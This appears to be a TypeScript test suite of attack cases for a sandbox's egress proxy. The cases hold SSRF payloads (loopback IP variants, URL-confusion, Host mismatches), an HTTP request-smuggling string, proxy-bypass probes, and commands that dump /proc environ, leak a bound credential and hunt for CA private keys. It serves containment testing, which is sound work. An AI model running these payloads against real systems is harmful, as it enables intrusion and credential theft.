/**
 * Attacks from inside a session whose egress proxy runs: the bridge at 127.0.0.1:3128 is a
 * real route out, so these try to turn it against the host. The session's policy (built by
 * the runner, see `proxiedPolicyText`) allows the names `localhost` and `rt-bound.test` on
 * the canary service's port, 80 and 443, binds a credential whose real value is the
 * environment canary to `rt-bound.test`, and denies everything else. Containment means: the
 * canary services on the host are never reached (policy or SSRF guard), and the credential's
 * value and the session CA's key never appear inside.
 */
import type { AttackCase } from '../types.js';
import { sb } from './helpers.js';

/**
 * A request through the session proxy (named explicitly: NO_PROXY inside lists loopback
 * names, which would otherwise go direct); prints the body, and the marker on a 2xx.
 */
const viaProxy = (url: string, extra = ''): string =>
  `rm -f /tmp/rt-body; code=$(curl -s --max-time 4 -x http://127.0.0.1:3128 --noproxy '' -o /tmp/rt-body -w '%{http_code}' ${extra} "${url}"); cat /tmp/rt-body 2>/dev/null; case "$code" in 2*) echo "$RT_MARK ${url} -> $code";; esac`;

/**
 * Raw bytes to the bridge: a printf format whose one `%s` is the canary port; the answer is
 * printed, and the marker when it is a 2xx.
 */
const raw = (what: string, format: string): string =>
  `rm -f /tmp/rt-raw; printf '${format}' "$RT_TCP_PORT" | socat -t4 -T4 - TCP:127.0.0.1:3128 2>/dev/null | tee /tmp/rt-raw | head -c 400; grep -q '^HTTP/1.[01] 2' /tmp/rt-raw && echo "$RT_MARK raw ${what}"; true`;

const LOOPBACKS = ['127.0.0.1', '127.1', '2130706433', '0x7f.0.0.1', '0177.0.0.1', '0.0.0.0', '[::1]', '[::ffff:127.0.0.1]', '[::ffff:7f00:1]', '[64:ff9b::7f00:1]', '[2002:7f00:1::]'];

/** Network cases with the proxy running. */
export const PROXIED_NETWORK_CASES: readonly AttackCase[] = [
  sb(
    'net-proxy-allowed-name-loopback',
    'network',
    'through the session proxy: a host name the policy allows that resolves to loopback (localhost, trailing dot, CONNECT)',
    [viaProxy('http://localhost:$RT_TCP_PORT/'), viaProxy('http://localhost.:$RT_TCP_PORT/'), viaProxy('http://LOCALHOST:$RT_TCP_PORT/'), viaProxy('http://localhost:$RT_TCP_PORT/', '-p')].join('\n'),
    { proxied: true },
  ),
  sb(
    'net-proxy-ip-literals',
    'network',
    'through the session proxy: loopback, the host address and NAT64/6to4 forms as IP literals, plain and CONNECT',
    [...LOOPBACKS, '$RT_HOST_IP']
      .flatMap((h) => [viaProxy(`http://${h}:$RT_TCP_PORT/`, '-g'), viaProxy(`http://${h}:$RT_TCP_PORT/`, '-g -p')])
      .join('\n'),
    { proxied: true },
  ),
  sb(
    'net-proxy-url-confusion',
    'network',
    'through the session proxy: userinfo, fragment and backslash tricks, a Host header that differs from the URL, origin-form and smuggled requests',
    [
      viaProxy('http://rt-bound.test@127.0.0.1:$RT_TCP_PORT/'),
      viaProxy('http://localhost:$RT_TCP_PORT#@rt-bound.test/', '-g'),
      viaProxy('http://127.0.0.1:$RT_TCP_PORT\\@localhost/', '-g'),
      raw('host-mismatch', 'GET http://rt-bound.test/ HTTP/1.1\\r\\nHost: 127.0.0.1:%s\\r\\nConnection: close\\r\\n\\r\\n'),
      raw('origin-form', 'GET / HTTP/1.1\\r\\nHost: 127.0.0.1:%s\\r\\nConnection: close\\r\\n\\r\\n'),
      raw('connect-host-mismatch', 'CONNECT rt-bound.test:443 HTTP/1.1\\r\\nHost: 127.0.0.1:%s\\r\\n\\r\\n'),
      raw('connect-userinfo', 'CONNECT rt-bound.test@127.0.0.1:%s HTTP/1.1\\r\\nHost: rt-bound.test\\r\\n\\r\\n'),
      raw(
        'smuggle-cl-te',
        'POST http://rt-bound.test/ HTTP/1.1\\r\\nHost: rt-bound.test\\r\\nContent-Length: 6\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET http://127.0.0.1:%s/ HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\n\\r\\n',
      ),
      raw('absolute-uri-ws', 'GET  http://127.0.0.1:%s/ HTTP/1.1\\r\\nHost: localhost\\r\\nConnection: close\\r\\n\\r\\n'),
    ].join('\n'),
    { proxied: true },
  ),
  sb(
    'net-proxy-other-routes',
    'network',
    'with the proxy running: other loopback ports, unix sockets visible inside, and the proxy variables ignored',
    [
      // the bridge listens on 3128 only; nothing else on loopback leads out
      `for p in 3127 3129 8080 8118 1080 "$RT_TCP_PORT"; do curl -s --max-time 2 --noproxy '*' "http://127.0.0.1:$p/" && echo "$RT_MARK loopback port $p"; done`,
      // any unix socket inside: talk HTTP to it and ask for the host's canary service
      `for s in $(find / -xdev -type s 2>/dev/null | head -20) $(find /tmp /run /var/run -type s 2>/dev/null | head -20); do printf 'GET http://127.0.0.1:%s/ HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\nConnection: close\\r\\n\\r\\n' "$RT_TCP_PORT" | socat -t3 -T3 - UNIX-CONNECT:"$s" 2>/dev/null | head -c 200 | grep -q '^HTTP/1.[01] 2' && echo "$RT_MARK unix socket $s"; done`,
      `curl -s --max-time 3 --noproxy '*' https://example.com/ && echo "$RT_MARK direct https"`,
      'true',
    ].join('\n'),
    { proxied: true },
  ),
];

/** Secrets cases with the proxy running and a credential bound. */
export const PROXIED_SECRETS_CASES: readonly AttackCase[] = [
  sb(
    'sec-proxy-credential',
    'secrets',
    'the bound credential: environment and process memory inside, the placeholder sent to unbound hosts, error and denial bodies of the proxy',
    [
      'cat /proc/*/environ 2>/dev/null | tr "\\0" "\\n" | sort -u',
      'echo "placeholder: $RT_CRED"',
      // the placeholder to hosts it is not bound to, and to the bound host on the canary port
      viaProxy('http://localhost:$RT_TCP_PORT/', '-H "Authorization: Bearer $RT_CRED"'),
      viaProxy('http://127.0.0.1:$RT_TCP_PORT/?k=$RT_CRED', '-H "X-Api-Key: $RT_CRED"'),
      viaProxy('http://rt-bound.test:$RT_TCP_PORT/', '-H "Authorization: Bearer $RT_CRED"'),
      viaProxy('http://rt-bound.test/echo', '-H "Authorization: Bearer $RT_CRED"'),
      viaProxy('https://rt-bound.test/echo', '-k -H "Authorization: Bearer $RT_CRED"'),
      // the proxy's own paths
      `for p in / /_airlock /_airlock/ /_airlock/base/ /_airlock/credentials /_airlock/debug; do curl -s --max-time 3 --noproxy '*' "http://127.0.0.1:3128$p"; echo; done`,
      // the memory of every process inside
      `for p in /proc/[0-9]*; do tr -c '[:print:]' '\\n' < $p/cmdline 2>/dev/null; done`,
      'true',
    ].join('\n'),
    { proxied: true },
  ),
  sb(
    'sec-proxy-ca-key',
    'secrets',
    "the session CA's private key (interception would be forgeable from inside): any private key inside that matches the trusted CA",
    [
      'ca="${NODE_EXTRA_CA_CERTS:-$SSL_CERT_FILE}"',
      '[ -r "$ca" ] || { echo "no CA file inside"; exit 0; }',
      'echo "trusted certificates: $(grep -c "BEGIN CERT" "$ca")"',
      // every private key in the places anything writable or airlock-provided lives (/usr and
      // the other system directories are the host's read-only binds)
      `keys=$(grep -rlsI --exclude-dir=.rt -e 'PRIVATE KEY' /run /tmp /var /home /root /workspace /etc /opt /srv /mnt /media 2>/dev/null | head -200; find / -maxdepth 1 -type f 2>/dev/null | xargs -r grep -lsI -e 'PRIVATE KEY')`,
      'echo "private key files: $(echo $keys | wc -w)"',
      // only when there is one: the public key of every certificate the sandbox trusts
      'if [ -n "$keys" ]; then',
      '  d=$(mktemp -d); awk -v d="$d" \'/BEGIN CERT/{n++} {print > (d "/c" n ".pem")}\' "$ca"',
      '  for c in "$d"/c*.pem; do openssl x509 -in "$c" -noout -pubkey 2>/dev/null | sha256sum; done | sort -u > "$d/trusted"',
      '  for f in $keys; do',
      '    got=$(openssl pkey -in "$f" -pubout 2>/dev/null | sha256sum)',
      '    echo "private key file: $f"',
      '    grep -qx "$got" "$d/trusted" && echo "$RT_MARK a trusted CA key at $f"',
      '  done',
      'fi',
      'env | grep -i -e "key" -e "ca_" | grep -v RT_ || true',
    ].join('\n'),
    { proxied: true, timeoutMs: 40_000 },
  ),
];
